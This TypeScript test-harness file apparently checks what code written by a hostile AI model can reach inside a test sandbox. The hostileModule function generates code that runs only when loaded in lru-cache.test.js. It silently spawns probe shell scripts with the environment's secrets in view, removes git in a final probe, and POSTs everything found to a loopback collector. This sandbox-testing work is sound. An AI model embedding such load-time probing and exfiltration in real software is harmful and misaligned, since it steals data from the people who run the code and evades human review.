import { listen, readBody } from '../servers/loopback.ts';
import type { Probe } from './probes.ts';

/** Where hostile code sends what it found: tests have the network, unless told otherwise. */
export interface Collector extends AsyncDisposable {
  readonly port: number;
  /** What each process that ran the module has found, by the id of the probe. */
  readonly findings: readonly Readonly<Record<string, string>>[];
}

export async function startCollector(): Promise<Collector> {
  const findings: Readonly<Record<string, string>>[] = [];
  const server = await listen(async (request, response) => {
    findings.push(JSON.parse((await readBody(request)).toString()));
    response.end();
  });
  return { ...server, findings };
}

export interface HostileOptions {
  readonly probes: readonly Probe[];
  /** Variables of the scripts: where things lie. The attacker may know that. */
  readonly places: Readonly<Record<string, string>>;
  readonly port: number;
}

/** Product code as a hostile model writes it: runs all probes when it is loaded, in one of the test processes. The last probe is alone: it takes git away. */
export function hostileModule({ probes, places, port }: HostileOptions): string {
  const scripts = probes.map(({ id, script }) => [id, script]);
  return `import { spawn } from 'node:child_process';

const scripts = ${JSON.stringify(scripts)};
const places = ${JSON.stringify(places)};
const run = ([id, script]) =>
  new Promise((resolve) => {
    const child = spawn('sh', ['-c', script], { env: { ...process.env, ...places }, stdio: ['ignore', 'pipe', 'pipe'], detached: true });
    let text = '';
    for (const stream of [child.stdout, child.stderr]) stream.on('data', (piece) => (text = (text + piece).slice(-400_000)));
    const end = (why) => {
      clearTimeout(timer);
      resolve([id, text + why]);
    };
    child.on('close', () => end(''));
    const timer = setTimeout(() => {
      try { process.kill(-child.pid, 'SIGKILL'); } catch {}
      end('\\ngiven up');
    }, 5000);
  });
if (process.argv[1]?.endsWith('lru-cache.test.js')) {
  const findings = [];
  for (let at = 0; at < scripts.length - 1; at += 8) findings.push(...(await Promise.all(scripts.slice(at, at + 8).filter((each) => each !== scripts.at(-1)).map(run))));
  findings.push(await run(scripts.at(-1)));
  const body = JSON.stringify(Object.fromEntries(findings));
  const sent = await fetch('http://127.0.0.1:${port}/', { method: 'POST', body });
  await sent.text();
}
`;
}
